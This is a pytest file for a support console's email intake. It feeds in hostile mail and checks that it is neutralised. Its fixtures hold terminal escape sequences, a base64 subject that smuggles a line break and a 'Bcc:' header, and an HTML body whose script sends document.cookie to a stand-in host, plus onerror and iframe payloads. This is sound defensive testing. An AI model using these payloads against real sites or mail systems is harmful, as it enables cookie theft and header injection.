"""Hostile mail (#19 point 9): each gives a case or a clear refusal, never a crash — and nothing in it reaches a
terminal as an escape sequence."""

from __future__ import annotations

import base64

import pytest
from sqlmodel import select

from agent_console.domain.mail_intake import IntakeOptions, MailRefused, ingest
from agent_console.store.models import Case, Customer, Message, MessageAttachment

OPTIONS = IntakeOptions(mail_from="support@shop.example", queue="General")


def only_case(store):
    with store.session() as session:
        [case] = session.exec(select(Case)).all()
        customer = session.get(Customer, case.customer_id)
        first = session.exec(select(Message).where(Message.case_id == case.id).order_by(Message.id)).first()
        return case, customer, first


def test_markup_and_escapes_in_subject_name_and_body_are_kept_literally_without_escapes(store, clock):
    raw = ("From: \"[bold red]Evil[/] \x1b[2J\" <evil@example.com>\r\n"
           "Subject: [link=file:///etc/passwd]click[/link] \x1b]0;owned\x07\r\n"
           "Message-ID: <h1@example.com>\r\n\r\n"
           "[blink]hello[/blink] \x1b[31mred\x1b[0m\r\n").encode()
    ingest(store, clock, raw, OPTIONS)
    case, customer, first = only_case(store)
    for text in (case.subject, customer.name, first.body):
        assert "\x1b" not in text and "\x07" not in text
    assert case.subject.startswith("[link=file:///etc/passwd]click[/link]")
    assert customer.name.startswith("[bold red]Evil[/]")
    assert "[blink]hello[/blink]" in first.body and "red" in first.body


def test_an_encoded_word_cannot_smuggle_escapes_or_line_breaks_into_the_subject(store, clock):
    sneaky = base64.b64encode(b"Hi\r\nBcc: all@example.com\x1b[2J").decode()
    raw = f"From: a@example.com\r\nSubject: =?utf-8?b?{sneaky}?=\r\nMessage-ID: <h2@x>\r\n\r\nbody".encode()
    ingest(store, clock, raw, OPTIONS)
    case, _customer, _first = only_case(store)
    assert "\n" not in case.subject and "\r" not in case.subject and "\x1b" not in case.subject


def test_html_with_scripts_becomes_text_without_them(store, clock):
    raw = (b"From: a@example.com\r\nSubject: html\r\nMessage-ID: <h3@x>\r\nContent-Type: text/html\r\n\r\n"
           b"<script>fetch('https://evil.example/'+document.cookie)</script><p onclick=\"x()\">Help me</p>"
           b"<img src=x onerror=alert(1)><iframe src=https://evil.example></iframe><style>*{}</style>")
    ingest(store, clock, raw, OPTIONS)
    _case, _customer, first = only_case(store)
    assert first.body == "Help me"


def test_a_20_mb_attachment_is_listed_but_not_kept(store, clock):
    payload = base64.encodebytes(b"\0" * (20 * 1024 * 1024))
    raw = (b"From: big@example.com\r\nSubject: big\r\nMessage-ID: <big@x>\r\n"
           b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nsee file\r\n"
           b"--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=big.bin\r\n"
           b"Content-Transfer-Encoding: base64\r\n\r\n" + payload + b"\r\n--B--\r\n")
    ingest(store, clock, raw, OPTIONS)
    with store.session() as session:
        [attachment] = session.exec(select(MessageAttachment)).all()
    assert attachment.size == 20 * 1024 * 1024 and attachment.content is None and attachment.omitted_reason


def test_ten_thousand_recipients_make_one_case(store, clock):
    recipients = ", ".join(f"user{n}@example.com" for n in range(10_000))
    raw = (f"From: many@example.com\r\nTo: {recipients}\r\nCc: {recipients}\r\nSubject: everyone\r\n"
           f"Message-ID: <many@x>\r\n\r\nhello all").encode()
    assert ingest(store, clock, raw, OPTIONS).outcome == "new_case"


@pytest.mark.parametrize("raw", [
    b"From: a@example.com\r\nSubject: no end\r\nContent-Type: multipart/mixed; boundary=X\r\n\r\n--X\r\n"
    b"Content-Type: text/plain\r\n\r\nunterminated",
    b"From: a@example.com\r\nSubject: no boundary\r\nContent-Type: multipart/mixed\r\n\r\nplain text after all",
    b"From: a@example.com\r\nSubject: bad b64\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64@@@",
    b"From: a@example.com\r\nSubject: bad charset\r\nContent-Type: text/plain; charset=\"x-\x00evil\"\r\n\r\nhi",
    b"From: a@example.com\r\nSubject: =?unknown-charset?q?hi?= =?utf-8?b?####?=\r\n\r\nbroken words",
    b"From: a@example.com\r\nSubject: deep\r\n" + b"Content-Type: multipart/mixed; boundary=Z\r\n\r\n"
    + b"--Z\r\nContent-Type: multipart/mixed; boundary=Z\r\n\r\n" * 300 + b"--Z--",
    b"\xff\xfe\x00garbage that is no mail at all",
    b"From: a@example.com\r\nMessage-ID: <" + b"x" * 5000 + b">\r\nSubject: long id\r\n\r\nbody",
    b"From: " + b"a" * 400 + b"@example.com\r\nSubject: long sender\r\n\r\nbody",
])
def test_malformed_mime_gives_a_case_or_a_clear_refusal(store, clock, raw):
    try:
        result = ingest(store, clock, raw, OPTIONS)
    except MailRefused as exc:
        assert str(exc)
    else:
        assert result.case_key
